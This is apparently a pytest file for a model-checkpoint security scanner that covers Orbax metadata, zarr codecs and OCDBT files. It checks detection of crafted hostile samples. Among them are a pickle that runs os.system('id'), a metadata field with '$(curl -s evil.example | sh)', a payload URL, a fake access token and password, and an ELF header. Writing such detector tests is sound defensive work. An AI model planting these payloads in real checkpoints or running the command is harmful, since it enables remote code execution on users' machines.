"""Orbax checkpoints: JSON metadata, zarr metadata and TensorStore OCDBT files.

Benign checkpoints under tests/fixtures/orbax were written by orbax-checkpoint (see its README);
malicious and malformed files are built here as bytes and never loaded.
"""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path

import pytest
import zstandard

from shardscan.limits import Limits
from shardscan.model import Severity
from shardscan.pipeline.runner import Runner, ScanOptions
from shardscan.scanners import detect as fmt
from tests.findings import only, rules

FIXTURES = Path(__file__).parent / "fixtures" / "orbax"
DATA = "ckpt.orbax/default/ocdbt.process_0/d/0123456789abcdef0123456789abcdef"
MANIFEST_MAGIC, BTREE_MAGIC = b"\x0c\xdb\x3a\x2a", b"\x0c\xdb\x20\xde"
#: os.system("id") as a protocol 2 pickle: GLOBAL, MARK, a string, TUPLE, REDUCE, STOP.
EVIL_PICKLE = b"\x80\x02cos\nsystem\n(X\x02\x00\x00\x00idtR."
SECRET = "hf_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7"


def elf64() -> bytes:
    h = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    h += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return h + bytes(64)


def node(body: bytes, magic: bytes = BTREE_MAGIC, *, zstd: bool = False, version: int = 0,
         length: int | None = None) -> bytes:
    """One encoded OCDBT node: magic, uint64le length, version and compression varints, body, crc32c."""
    if zstd:
        body = zstandard.ZstdCompressor().compress(body)
    total = 4 + 8 + 2 + len(body) + 4
    header = magic + struct.pack("<Q", total if length is None else length) + bytes([version, int(zstd)])
    return header + body + bytes(4)


def scan_tree(*paths: Path, **options):
    return Runner(ScanOptions(**options)).run([str(p) for p in paths])


# --- the real checkpoints --------------------------------------------------------------------------


def test_real_checkpoints_are_routed_and_clean():
    run = scan_tree(FIXTURES / "manager", FIXTURES / "plain.orbax")
    assert len(run.objects) >= 15
    for obj in run.objects:
        assert obj.status == "scanned", (obj.object.uri, obj.error)
        bad = [(f.rule_id, f.message) for f in obj.findings if f.severity >= Severity.WARNING]
        assert not bad, (obj.object.uri, bad)
        assert "FMT002" not in rules(obj), obj.object.uri
        name = obj.object.uri.rsplit("/", 1)[-1]
        if name == "manifest.ocdbt" or "/d/" in obj.object.uri:
            assert obj.format == fmt.OCDBT and not obj.findings, (obj.object.uri, obj.findings)
        if name.startswith("_") or name.startswith(".z"):
            assert obj.format == fmt.TEXT and not obj.findings


def test_ocdbt_magics_detected():
    for magic in (MANIFEST_MAGIC, BTREE_MAGIC, b"\x0c\xdb\x12\x34"):
        assert fmt.detect(magic + bytes(20), "x", 24).format == fmt.OCDBT
    # a data file that starts with a raw value (a zstd-compressed zarr chunk) is OCDBT by its name
    frame = zstandard.ZstdCompressor().compress(b"\x00" * 100)
    assert fmt.detect(frame, DATA, len(frame)).format == fmt.OCDBT
    assert fmt.detect(frame, "chunk/0.0", len(frame)).format == fmt.ZSTD


# --- JSON metadata --------------------------------------------------------------------------------


def test_foreign_handler_is_warned(scan_bytes):
    meta = {"item_handlers": {"default": "evil_pkg.handlers.Restore",
                              "state": "orbax.checkpoint._src.handlers.standard_checkpoint_handler."
                                       "StandardCheckpointHandler"},
            "metrics": {}, "init_timestamp_nsecs": 1, "custom_metadata": {}}
    report = scan_bytes(json.dumps(meta).encode(), "ckpt/_CHECKPOINT_METADATA")
    (hit,) = only(report, "ORB003")
    assert hit.severity == Severity.WARNING and "evil_pkg.handlers.Restore" in hit.message
    plain = scan_bytes(json.dumps({"item_handlers": "evil.Handler"}).encode(), "c2/_CHECKPOINT_METADATA")
    assert "ORB003" in rules(plain)


def test_metadata_types_strings_and_secrets(scan_bytes):
    meta = {"tree_metadata": {"('w',)": {"key_metadata": [{"key": "w", "key_type": 2}],
                                         "value_metadata": {"value_type": "mypkg.payload.Gadget",
                                                            "skip_deserialize": False}},
                              "('b',)": {"value_metadata": {"value_type": "jax.Array"}}},
            "use_ocdbt": True, "use_zarr3": False,
            "custom_metadata": {"note": f"token={SECRET}", "src": "see https://evil.example/payload.sh",
                                "cmd": "$(curl -s evil.example | sh)"}}
    report = scan_bytes(json.dumps(meta).encode(), "ckpt/_METADATA")
    assert only(report, "ORB004")[0].severity == Severity.WARNING
    assert "ORB006" in rules(report) and "ORB005" in rules(report)
    (secret,) = only(report, "BIN002")  # once: the text scanner's whole-file pass and this one do not overlap
    assert secret.severity == Severity.WARNING
    for f in report.findings:
        assert SECRET[3:] not in f.message and SECRET[3:] not in str(dict(f.evidence))


def test_malformed_and_hostile_metadata(scan_bytes):
    assert only(scan_bytes(b'{"item_handlers": ', "a/_CHECKPOINT_METADATA"), "ORB001")[0].severity == Severity.WARNING
    assert "ORB001" in rules(scan_bytes(b"[1, 2]", "b/_METADATA"))
    assert "ORB001" in rules(scan_bytes(b'{"item_handlers": 5}', "c/_CHECKPOINT_METADATA"))
    deep = b'{"a": ' * 100_000 + b"1" + b"}" * 100_000
    assert "ORB002" in rules(scan_bytes(deep, "d/_METADATA"))
    wide = json.dumps({"tree_metadata": {str(i): i for i in range(50)}}).encode()
    assert "ORB002" in rules(scan_bytes(wide, "e/_METADATA", limits=Limits(max_config_nodes=10)))
    assert scan_bytes(b"{}", "f/_sharding").findings == []


def test_sharding_strings_are_read(scan_bytes):
    doc = {"dw==": json.dumps({"sharding_type": "NamedSharding", "note": f"api_key={SECRET}"})}
    assert len(only(scan_bytes(json.dumps(doc).encode(), "ckpt/_sharding"), "BIN002")) == 1
    bare = {"custom_metadata": {"note": SECRET, "password": "Xk29fj3kLm20qz"}}
    assert len(only(scan_bytes(json.dumps(bare).encode(), "ckpt/_METADATA"), "BIN002")) == 2


# --- zarr metadata ----------------------------------------------------------------------------------


def test_zarr_pickle_codec_is_critical(scan_bytes):
    zarray = {"chunks": [2], "compressor": None, "dtype": "|O", "fill_value": 0, "filters": [{"id": "pickle"}],
              "order": "C", "shape": [2], "zarr_format": 2}
    (hit,) = only(scan_bytes(json.dumps(zarray).encode(), "ckpt/w/.zarray"), "ORB011")
    assert hit.severity == Severity.CRITICAL
    v3 = {"zarr_format": 3, "node_type": "array", "data_type": "float32", "shape": [2],
          "codecs": [{"name": "bytes"}, {"name": "numcodecs.pickle", "configuration": {}}]}
    assert "ORB011" in rules(scan_bytes(json.dumps(v3).encode(), "ckpt/w/zarr.json"))


def test_zarr_unknown_codec_and_object_dtype(scan_bytes):
    zarray = {"chunks": [2], "compressor": {"id": "mycorp_codec"}, "dtype": "<f4", "filters": None,
              "shape": [2], "zarr_format": 2}
    (hit,) = only(scan_bytes(json.dumps(zarray).encode(), "ckpt/w/.zarray"), "ORB012")
    assert hit.severity == Severity.WARNING
    objects = {"chunks": [2], "compressor": None, "dtype": "|O", "filters": None, "shape": [2], "zarr_format": 2}
    assert "ORB012" in rules(scan_bytes(json.dumps(objects).encode(), "ckpt/o/.zarray"))
    strings = dict(objects, filters=[{"id": "vlen-utf8"}])
    assert scan_bytes(json.dumps(strings).encode(), "ckpt/s/.zarray").findings == []
    sharded = {"zarr_format": 3, "data_type": "float32", "codecs": [{"name": "sharding_indexed", "configuration": {
        "codecs": [{"name": "bytes"}, {"name": "zstd"}], "index_codecs": [{"name": "crc32c"}]}}]}
    assert scan_bytes(json.dumps(sharded).encode(), "ckpt/z/zarr.json").findings == []


# --- OCDBT files -------------------------------------------------------------------------------------


def test_inline_zarr_metadata_in_btree_node(scan_bytes):
    zarray = json.dumps({"chunks": [4], "compressor": None, "dtype": "|O", "filters": [{"id": "pickle"}],
                         "shape": [4], "zarr_format": 2}).encode()
    body = b"\x00\x01\x00" + b"w/.zarray" + zarray + b"\x00" * 8
    report = scan_bytes(node(body, zstd=True), DATA)
    assert only(report, "ORB011")[0].severity == Severity.CRITICAL


def test_executable_in_node_body(scan_bytes):
    report = scan_bytes(node(b"\x00" * 16 + elf64()), DATA)
    assert only(report, "BIN001")[0].severity == Severity.CRITICAL
    assert "BIN001" in rules(scan_bytes(node(b"\x00" * 16 + elf64(), zstd=True), DATA))


def test_pickle_in_compressed_node_is_scanned(scan_bytes):
    report = scan_bytes(node(b"\x01\x00" + EVIL_PICKLE + b"\x00" * 8, zstd=True), DATA)
    assert only(report, "ORB009")[0].severity == Severity.WARNING
    assert only(report, "PKL102")[0].severity == Severity.CRITICAL


def test_raw_data_file_with_pickle_and_frames(scan_bytes):
    chunk = zstandard.ZstdCompressor().compress(b"\x00" * 64 + EVIL_PICKLE + b"\x00" * 64)
    report = scan_bytes(b"\x01" * 32 + chunk + node(b"\x00" * 32, zstd=True), DATA)
    assert only(report, "ORB010")[0].severity == Severity.INFO  # starts with a raw value
    assert "ORB009" in rules(report) and "PKL102" in rules(report)
    raw = scan_bytes(b"\x00" * 40 + EVIL_PICKLE + b"\x00" * 40, DATA)
    assert {"ORB009", "PKL102"} <= rules(raw)


def test_random_float_data_is_not_a_pickle(scan_bytes):
    import random

    rng = random.Random(7)
    data = bytes(rng.getrandbits(8) for _ in range(300_000))
    data = data.replace(b"\x0c\xdb", b"\x00\x00")
    report = scan_bytes(b"\x01" + data, DATA)
    assert rules(report) <= {"ORB010"}, [(f.rule_id, f.message) for f in report.findings]


def test_decoding_budget_is_reported(scan_bytes):
    big = node(b"\x00" * 200_000, zstd=True)
    report = scan_bytes(big, DATA, limits=Limits(max_ocdbt_node_bytes=100_000))
    assert only(report, "ORB010")[0].severity == Severity.INFO
    report = scan_bytes(big + big, DATA, limits=Limits(max_ocdbt_decoded_bytes=150_000))
    assert "ORB010" in rules(report)


@pytest.mark.parametrize("data, why", [
    (MANIFEST_MAGIC, "cut"),
    (MANIFEST_MAGIC + os.urandom(64), "random"),
    (node(b"x" * 8, MANIFEST_MAGIC, version=3), "version"),
    (node(b"x" * 8, MANIFEST_MAGIC, length=2**63), "length"),
    (node(b"x" * 8, MANIFEST_MAGIC, length=3), "short"),
    (MANIFEST_MAGIC + struct.pack("<Q", 30) + b"\x00\x07" + bytes(16), "compression"),
    (MANIFEST_MAGIC + struct.pack("<Q", 30) + b"\x00\x01" + b"\x28\xb5\x2f\xfdjunkjunk" + bytes(4), "zstd"),
])
def test_malformed_ocdbt_is_an_integrity_finding(scan_bytes, data, why):
    report = scan_bytes(data, "ckpt/manifest.ocdbt")
    assert report.status == "scanned" and report.format == fmt.OCDBT
    assert only(report, "ORB008")[0].severity == Severity.WARNING, why


def test_manifest_with_trailing_bytes_and_empty_data(scan_bytes):
    report = scan_bytes(node(b"x" * 8, MANIFEST_MAGIC) + b"tail", "ckpt/manifest.ocdbt")
    assert "ORB008" in rules(report)
    assert scan_bytes(node(b"x" * 8, MANIFEST_MAGIC), "ckpt/manifest.ocdbt").findings == []


def test_node_count_limit(scan_bytes):
    data = node(b"\x00" * 4) * 50
    report = scan_bytes(data, DATA, limits=Limits(max_ocdbt_nodes=10))
    assert only(report, "ORB002")[0].severity == Severity.WARNING


def test_magic_packed_data_stays_bounded(scan_bytes):
    import time

    start = time.monotonic()
    report = scan_bytes(b"\x01" + b"\x80\x02(" * 200_000 + b"\x28\xb5\x2f\xfd" * 200_000, DATA,
                        limits=Limits(max_ocdbt_probes=2_000))
    assert time.monotonic() - start < 30
    assert report.status == "scanned" and "ORB010" in rules(report)
    assert not [f for f in report.findings if f.severity >= Severity.CRITICAL]
